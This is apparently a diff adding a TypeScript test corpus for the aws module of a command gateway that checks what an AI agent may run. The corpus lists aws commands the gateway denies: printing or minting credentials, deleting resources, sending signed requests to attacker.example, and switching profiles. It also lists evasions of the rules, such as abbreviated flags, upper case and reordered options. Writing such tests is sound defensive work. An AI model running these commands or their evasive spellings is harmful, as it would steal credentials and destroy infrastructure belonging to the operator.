@@ -1,0 +1,497 @@
+// Attack corpus for the built-in aws module: every row is a command line an agent may send, the decision
+// airlock must make, and the attack (or the everyday use) it stands for. builtins/aws/SECURITY.md cites
+// these test names; keep them stable.
+import { describe, expect, test } from "bun:test";
+import { BUILTINS } from "../../../../src/config/builtins.ts";
+import { normalizeArgs } from "../../../../src/policy/args.ts";
+import { resolveParseSpec } from "../../../../src/policy/decide.ts";
+import { mergeEnv } from "../../../../src/policy/env.ts";
+import { planExec } from "../../../../src/policy/plan.ts";
+import { readingsOf } from "../../../../src/policy/readings.ts";
+import { compileRules } from "../../../../src/policy/rules.ts";
+import { builtin, decideBuiltin } from "../../../helpers/policy.ts";
+
+const COMMAND = "aws";
+
+interface Row {
+  readonly argv: readonly string[];
+  readonly allow: boolean;
+  /** For denials: the rule that must decide, as the engine names it. */
+  readonly rule: string | undefined;
+  readonly why: string;
+}
+
+const deny = (argv: readonly string[], rule: string, why: string): Row => ({ argv, allow: false, rule, why });
+const allow = (argv: readonly string[], why: string): Row => ({ argv, allow: true, rule: undefined, why });
+
+const shown = (argv: readonly string[]) =>
+  argv.map((a) => (a === "" || /[\s"]/.test(a) ? JSON.stringify(a) : a)).join(" ");
+const title = (row: Row) => `${row.allow ? "allows" : "denies"} ${row.why} (${shown(row.argv)})`;
+
+function check(rows: readonly Row[]): void {
+  for (const row of rows) {
+    test(title(row), () => {
+      const decision = decideBuiltin(row.argv);
+      if (row.allow) expect(decision).toMatchObject({ allowed: true });
+      else
+        expect(decision).toMatchObject({ allowed: false, layer: "module", kind: "denied", rule: row.rule });
+    });
+  }
+}
+
+interface EnvRow {
+  readonly name: string;
+  readonly effect: "strip" | "set" | "pass";
+  readonly value?: string;
+  readonly why: string;
+}
+
+const moduleRules = () => compileRules("deny", builtin(COMMAND).module.deny ?? {});
+
+/** Every deny rule that matches under some reading, not only the first one (pins rules that others shadow). */
+function matchingRules(argv: readonly string[]): string[] {
+  const args = argv.slice(1);
+  const module = builtin(COMMAND);
+  const rules = moduleRules();
+  const spec = resolveParseSpec(module);
+  const facts = normalizeArgs(args, spec);
+  const depth = spec.subcommand_depth ?? Math.max(1, ...rules.map((r) => r.depth));
+  const readings = readingsOf(facts, depth, args.length);
+  if (readings === "too-ambiguous") return [];
+  return rules
+    .filter((r) => readings.some((reading) => r.matches({ args, facts, reading, spec })))
+    .map((r) => r.id);
+}
+
+const endpoint = "deny.patterns[0]";
+const profile = "deny.patterns[1]";
+const decrypt = "deny.patterns[2]";
+const sub = (name: string) => `deny.subcommands: '${name}'`;
+const terminate = sub("* terminate-instances");
+
+const legacySpellings: Row[] = [
+  deny(
+    ["aws", "ec2", "terminate-instances", "--instance-ids", "i-0abc"],
+    terminate,
+    "ec2 terminate-instances",
+  ),
+  deny(
+    ["aws", "--region", "us-east-1", "ec2", "terminate-instances", "--instance-ids", "i-0abc"],
+    terminate,
+    "terminate-instances after a global option",
+  ),
+  deny(
+    ["aws", "--region=us-east-1", "ec2", "terminate-instances"],
+    terminate,
+    "terminate-instances after --region=VALUE",
+  ),
+  deny(
+    ["aws", "ec2", "--region", "us-east-1", "terminate-instances"],
+    terminate,
+    "a global option between service and operation",
+  ),
+  deny(["aws", "--debug", "ec2", "terminate-instances"], terminate, "terminate-instances after a flag"),
+  deny(
+    ["aws", "--some-future-flag", "ec2", "terminate-instances"],
+    terminate,
+    "terminate-instances after an option airlock does not know",
+  ),
+  deny(["aws", "EC2", "TERMINATE-INSTANCES"], terminate, "terminate-instances in upper case"),
+  deny(
+    ["aws", "rds", "delete-db-instance", "--db-instance-identifier", "prod"],
+    sub("* delete-db-instance"),
+    "rds delete-db-instance",
+  ),
+  deny(["aws", "iam", "delete-user", "--user-name", "ci"], sub("* delete-user"), "iam delete-user"),
+  deny(["aws", "iam", "delete-role", "--role-name", "deploy"], sub("* delete-role"), "iam delete-role"),
+  deny(
+    ["aws", "s3api", "delete-bucket", "--bucket", "prod-data"],
+    sub("* delete-bucket"),
+    "s3api delete-bucket",
+  ),
+];
+
+const bypassesOf04: Row[] = [
+  deny(
+    ["aws", "s3", "rb", "s3://prod-data", "--force"],
+    sub("s3 rb"),
+    "s3 rb --force, which empties and deletes a bucket",
+  ),
+  deny(["aws", "s3", "rb", "--force", "s3://prod-data"], sub("s3 rb"), "s3 rb with --force first"),
+];
+
+const credentials: Row[] = [
+  deny(
+    ["aws", "configure", "get", "aws_secret_access_key"],
+    sub("configure get"),
+    "configure get, which prints a key from the host's files",
+  ),
+  deny(
+    ["aws", "configure", "export-credentials"],
+    sub("configure export-credentials"),
+    "configure export-credentials",
+  ),
+  deny(
+    ["aws", "configure", "export-credentials", "--format", "env"],
+    sub("configure export-credentials"),
+    "configure export-credentials --format env",
+  ),
+  deny(
+    ["aws", "configure", "set", "aws_access_key_id", "AKIA0000"],
+    sub("configure set"),
+    "configure set, which rewrites the host's profile",
+  ),
+  deny(
+    ["aws", "configure", "import", "--csv", "file://keys.csv"],
+    sub("configure import"),
+    "configure import",
+  ),
+  deny(
+    ["aws", "sts", "get-session-token"],
+    sub("sts get-session-token"),
+    "sts get-session-token, which mints temporary keys",
+  ),
+  deny(
+    ["aws", "sts", "--region", "us-east-1", "get-session-token"],
+    sub("sts get-session-token"),
+    "get-session-token after a global option",
+  ),
+  deny(
+    ["aws", "sts", "assume-role", "--role-arn", "arn:aws:iam::1:role/x", "--role-session-name", "s"],
+    sub("sts assume-role*"),
+    "sts assume-role",
+  ),
+  deny(
+    ["aws", "sts", "assume-role-with-web-identity", "--role-arn", "x"],
+    sub("sts assume-role*"),
+    "sts assume-role-with-web-identity",
+  ),
+  deny(
+    ["aws", "sts", "assume-role-with-saml", "--role-arn", "x"],
+    sub("sts assume-role*"),
+    "sts assume-role-with-saml",
+  ),
+  deny(
+    ["aws", "sts", "get-federation-token", "--name", "x"],
+    sub("sts get-federation-token"),
+    "sts get-federation-token",
+  ),
+  deny(["aws", "ecr", "get-login-password"], sub("ecr get-login-password"), "ecr get-login-password"),
+  deny(["aws", "ecr", "get-login"], sub("ecr get-login"), "ecr get-login (CLI v1)"),
+  deny(
+    ["aws", "ecr-public", "get-login-password"],
+    sub("ecr-public get-login-password"),
+    "ecr-public get-login-password",
+  ),
+  deny(
+    ["aws", "eks", "get-token", "--cluster-name", "prod"],
+    sub("eks get-token"),
+    "eks get-token, a bearer token for the cluster",
+  ),
+  deny(
+    ["aws", "codeartifact", "get-authorization-token", "--domain", "d"],
+    sub("codeartifact get-authorization-token"),
+    "codeartifact get-authorization-token",
+  ),
+  deny(
+    ["aws", "sso", "get-role-credentials", "--role-name", "x"],
+    sub("sso get-role-credentials"),
+    "sso get-role-credentials",
+  ),
+  deny(["aws", "sso", "login"], sub("sso login"), "sso login, which writes a new token to the host's cache"),
+  deny(
+    ["aws", "iam", "create-access-key", "--user-name", "ci"],
+    sub("iam create-access-key"),
+    "iam create-access-key",
+  ),
+  deny(
+    ["aws", "iam", "update-access-key", "--access-key-id", "AKIA0000", "--status", "Active"],
+    sub("iam update-access-key"),
+    "iam update-access-key",
+  ),
+  deny(
+    ["aws", "iam", "create-login-profile", "--user-name", "x", "--password", "p"],
+    sub("iam create-login-profile"),
+    "iam create-login-profile",
+  ),
+  deny(
+    ["aws", "iam", "update-login-profile", "--user-name", "x", "--password", "p"],
+    sub("iam update-login-profile"),
+    "iam update-login-profile",
+  ),
+  deny(
+    [
+      "aws",
+      "iam",
+      "create-service-specific-credential",
+      "--user-name",
+      "x",
+      "--service-name",
+      "codecommit.amazonaws.com",
+    ],
+    sub("iam create-service-specific-credential"),
+    "iam create-service-specific-credential",
+  ),
+  deny(
+    ["aws", "iam", "reset-service-specific-credential", "--service-specific-credential-id", "x"],
+    sub("iam reset-service-specific-credential"),
+    "iam reset-service-specific-credential",
+  ),
+  deny(
+    ["aws", "cognito-identity", "get-credentials-for-identity", "--identity-id", "x"],
+    sub("cognito-identity get-credentials-for-identity"),
+    "cognito-identity get-credentials-for-identity",
+  ),
+  deny(
+    ["aws", "cognito-identity", "get-open-id-token", "--identity-id", "x"],
+    sub("cognito-identity get-open-id-token*"),
+    "cognito-identity get-open-id-token",
+  ),
+  deny(
+    ["aws", "cognito-identity", "get-open-id-token-for-developer-identity", "--identity-pool-id", "x"],
+    sub("cognito-identity get-open-id-token*"),
+    "cognito-identity get-open-id-token-for-developer-identity",
+  ),
+  deny(
+    ["aws", "rds", "generate-db-auth-token", "--hostname", "db", "--port", "5432", "--username", "u"],
+    sub("rds generate-db-auth-token"),
+    "rds generate-db-auth-token",
+  ),
+  deny(
+    ["aws", "redshift", "get-cluster-credentials", "--cluster-identifier", "x", "--db-user", "u"],
+    sub("redshift get-cluster-credentials*"),
+    "redshift get-cluster-credentials",
+  ),
+  deny(
+    ["aws", "redshift", "get-cluster-credentials-with-iam", "--cluster-identifier", "x"],
+    sub("redshift get-cluster-credentials*"),
+    "redshift get-cluster-credentials-with-iam",
+  ),
+  deny(
+    ["aws", "s3", "presign", "s3://prod-data/dump.sql"],
+    sub("s3 presign"),
+    "s3 presign, a URL that carries the host's signature",
+  ),
+  deny(
+    ["aws", "secretsmanager", "get-secret-value", "--secret-id", "prod/db"],
+    sub("secretsmanager get-secret-value"),
+    "secretsmanager get-secret-value",
+  ),
+  deny(
+    ["aws", "secretsmanager", "batch-get-secret-value", "--secret-id-list", "a", "b"],
+    sub("secretsmanager batch-get-secret-value"),
+    "secretsmanager batch-get-secret-value",
+  ),
+  deny(
+    ["aws", "ssm", "get-parameter", "--name", "/prod/db", "--with-decryption"],
+    decrypt,
+    "ssm get-parameter --with-decryption",
+  ),
+  deny(
+    ["aws", "ssm", "get-parameter", "--with-d", "--name", "/prod/db"],
+    decrypt,
+    "an abbreviated --with-decryption",
+  ),
+  deny(
+    ["aws", "ssm", "get-parameters", "--names", "/prod/db", "--with-decryption"],
+    decrypt,
+    "ssm get-parameters --with-decryption",
+  ),
+  deny(
+    ["aws", "ssm", "get-parameters-by-path", "--path", "/prod", "--recursive", "--with-decryption"],
+    decrypt,
+    "ssm get-parameters-by-path --with-decryption",
+  ),
+  deny(
+    ["aws", "ssm", "get-parameter-history", "--name", "/prod/db", "--with-decryption"],
+    decrypt,
+    "ssm get-parameter-history --with-decryption",
+  ),
+];
+
+const redirection: Row[] = [
+  deny(
+    ["aws", "s3", "ls", "--endpoint-url", "https://attacker.example"],
+    endpoint,
+    "--endpoint-url, which sends signed requests to the agent's server",
+  ),
+  deny(["aws", "s3", "ls", "--endpoint-url=https://attacker.example"], endpoint, "--endpoint-url=VALUE"),
+  deny(
+    ["aws", "s3", "ls", "--endpoint", "https://attacker.example"],
+    endpoint,
+    "an abbreviated --endpoint-url",
+  ),
+  deny(
+    ["aws", "--endpoint-url", "https://attacker.example", "sts", "get-caller-identity"],
+    endpoint,
+    "a global --endpoint-url before the service",
+  ),
+  deny(
+    ["aws", "sts", "--endpoint-url", "https://attacker.example", "get-caller-identity"],
+    endpoint,
+    "--endpoint-url between service and operation",
+  ),
+  deny(["aws", "s3", "ls", "--profile", "prod-admin"], profile, "--profile, another of the host's profiles"),
+  deny(["aws", "s3", "ls", "--profile=prod-admin"], profile, "--profile=VALUE"),
+  deny(["aws", "s3", "ls", "--prof", "prod-admin"], profile, "an abbreviated --profile"),
+  deny(["aws", "--profile", "prod-admin", "s3", "ls"], profile, "a global --profile before the service"),
+];
+
+const falsePositivesOf04: Row[] = [
+  allow(["aws", "s3", "cp", "delete-user", "s3://bucket/delete-user"], "a file named delete-user"),
+  allow(
+    [
+      "aws",
+      "logs",
+      "filter-log-events",
+      "--log-group-name",
+      "trail",
+      "--filter-pattern",
+      "terminate-instances",
+    ],
+    "a log search for terminate-instances",
+  ),
+  allow(
+    ["aws", "ec2", "describe-instances", "--filters", "Name=tag:Name,Values=delete-role"],
+    "a filter value that names a denied operation",
+  ),
+];
+
+const everyday: Row[] = [
+  allow(["aws", "sts", "get-caller-identity"], "sts get-caller-identity"),
+  allow(["aws", "s3", "ls"], "s3 ls"),
+  allow(["aws", "s3", "ls", "s3://bucket/prefix/"], "s3 ls of a prefix"),
+  allow(["aws", "s3", "cp", "./build.zip", "s3://bucket/build.zip"], "s3 cp of a workspace file"),
+  allow(["aws", "s3", "sync", "./dist", "s3://bucket/site/"], "s3 sync of a workspace directory"),
+  allow(["aws", "ec2", "describe-instances"], "ec2 describe-instances"),
+  allow(
+    ["aws", "--region", "eu-west-1", "ec2", "describe-instances", "--output", "json"],
+    "describe-instances with a region and output format",
+  ),
+  allow(
+    ["aws", "ec2", "describe-instances", "--query", "Reservations[].Instances[].InstanceId"],
+    "describe-instances with a query",
+  ),
+  allow(["aws", "logs", "tail", "/aws/lambda/api", "--follow"], "logs tail"),
+  allow(
+    ["aws", "lambda", "invoke", "--function-name", "api", "out.json"],
+    "lambda invoke into a workspace file",
+  ),
+  allow(["aws", "cloudformation", "describe-stacks"], "cloudformation describe-stacks"),
+  allow(["aws", "iam", "list-users"], "iam list-users"),
+  allow(
+    ["aws", "ssm", "get-parameter", "--name", "/prod/feature-flag"],
+    "ssm get-parameter without decryption",
+  ),
+  allow(["aws", "configure", "list"], "configure list (keys masked)"),
+  allow(["aws", "configure", "list-profiles"], "configure list-profiles"),
+  allow(["aws", "--version"], "aws --version"),
+  allow(["aws", "s3", "help"], "aws s3 help"),
+];
+
+const rows = [
+  ...legacySpellings,
+  ...bypassesOf04,
+  ...credentials,
+  ...redirection,
+  ...falsePositivesOf04,
+  ...everyday,
+];
+
+describe("aws built-in: 0.4's rules in every spelling aws accepts", () => check(legacySpellings));
+describe("aws built-in: bypasses of 0.4 (AIRLOCK-0.4 item 11)", () => check(bypassesOf04));
+describe("aws built-in: commands that print or mint a credential", () => check(credentials));
+describe("aws built-in: requests sent elsewhere or as someone else", () => check(redirection));
+describe("aws built-in: false positives of 0.4 (AIRLOCK-0.4 item 12)", () => check(falsePositivesOf04));
+describe("aws built-in: everyday commands", () => check(everyday));
+
+const envRows: EnvRow[] = [
+  { name: "AWS_PROFILE", effect: "pass", why: "the profile the operator chose" },
+  { name: "AWS_REGION", effect: "pass", why: "the default region" },
+  { name: "AWS_DEFAULT_REGION", effect: "pass", why: "the default region" },
+  { name: "AWS_DEFAULT_OUTPUT", effect: "pass", why: "the default output format" },
+  { name: "AWS_CA_BUNDLE", effect: "pass", why: "the operator's CA bundle" },
+  { name: "AWS_CONFIG_FILE", effect: "pass", why: "where the host's config lives" },
+  { name: "AWS_SHARED_CREDENTIALS_FILE", effect: "pass", why: "where the host's credentials live" },
+  { name: "AWS_SDK_LOAD_CONFIG", effect: "pass", why: "SDK config loading" },
+  { name: "AWS_RETRY_MODE", effect: "pass", why: "retry behaviour" },
+  { name: "AWS_MAX_ATTEMPTS", effect: "pass", why: "retry behaviour" },
+  { name: "AWS_ACCESS_KEY_ID", effect: "strip", why: "a static key in the daemon's environment" },
+  { name: "AWS_SECRET_ACCESS_KEY", effect: "strip", why: "a static key in the daemon's environment" },
+  { name: "AWS_SESSION_TOKEN", effect: "strip", why: "a session token in the daemon's environment" },
+  { name: "AWS_PAGER", effect: "set", value: "", why: "no pager waiting on a terminal" },
+];
+
+function plannedEnv(
+  daemonEnv: Record<string, string>,
+  agentSet: Record<string, string>,
+): Record<string, string> {
+  const plan = planExec(
+    { command: COMMAND, args: [] },
+    builtin(COMMAND),
+    { name: "agent", commands: [], envSet: agentSet },
+    daemonEnv,
+  );
+  if ("error" in plan) throw new Error(plan.error);
+  return { ...plan.env };
+}
+
+/** `NAME*` in module.toml covers every name it prefixes. */
+const covers = (pattern: string, name: string) =>
+  pattern.endsWith("*") ? name.startsWith(pattern.slice(0, -1)) : name === pattern;
+
+describe(`${COMMAND} built-in: the child's environment`, () => {
+  for (const row of envRows) {
+    if (row.effect === "strip") {
+      test(`strips ${row.name}, ${row.why}, even when the daemon passes its whole environment`, () => {
+        const { strip } = builtin(COMMAND).module.env;
+        const daemonEnv = { [row.name]: "evil" };
+        const merged = mergeEnv({ daemonEnv, pass: ["*"], strip, agentSet: {}, moduleSet: {} });
+        expect(merged.env[row.name]).toBeUndefined();
+        expect(plannedEnv(daemonEnv, {})[row.name]).not.toBe("evil");
+      });
+    } else if (row.effect === "set") {
+      test(`sets ${row.name}=${JSON.stringify(row.value)} (${row.why}), over the daemon's and the agent's values`, () => {
+        const env = plannedEnv({ [row.name]: "daemon" }, { [row.name]: "agent" });
+        expect(env[row.name]).toBe(row.value ?? "");
+      });
+    } else {
+      test(`passes ${row.name} from the daemon: ${row.why}`, () => {
+        // A name the module also sets is passed and then overwritten: the module's value wins.
+        const expected = builtin(COMMAND).module.env.set[row.name] ?? "host-value";
+        expect(plannedEnv({ [row.name]: "host-value" }, {})[row.name]).toBe(expected);
+      });
+    }
+  }
+});
+
+describe(`${COMMAND} built-in: the corpus covers the module`, () => {
+  test("every deny rule in module.toml is matched by a denied row", () => {
+    const pinned = new Set(rows.filter((r) => !r.allow).flatMap((r) => matchingRules(r.argv)));
+    expect(
+      moduleRules()
+        .map((r) => r.id)
+        .filter((id) => !pinned.has(id)),
+    ).toEqual([]);
+  });
+  test("every env setting in module.toml has a test", () => {
+    const { strip, set, pass } = builtin(COMMAND).module.env;
+    const tested = (effect: EnvRow["effect"]) =>
+      envRows.filter((r) => r.effect === effect).map((r) => r.name);
+    const untested = (patterns: readonly string[], names: readonly string[]) =>
+      patterns.filter((p) => !names.some((n) => covers(p, n)));
+    expect(untested(strip, tested("strip"))).toEqual([]);
+    expect(untested(Object.keys(set), tested("set"))).toEqual([]);
+    expect(untested(pass, tested("pass"))).toEqual([]);
+  });
+  test("SECURITY.md names every deny rule and env setting", () => {
+    const doc = BUILTINS[COMMAND]?.security ?? "";
+    const { strip, set, pass } = builtin(COMMAND).module.env;
+    const names = [...moduleRules().map((r) => r.id), ...strip, ...Object.keys(set), ...pass];
+    expect(names.filter((n) => !doc.includes(`\`${n}\``))).toEqual([]);
+  });
+  test("row titles are unique", () => {
+    const titles = rows.map(title);
+    expect(titles.filter((t, i) => titles.indexOf(t) !== i)).toEqual([]);
+  });
+});
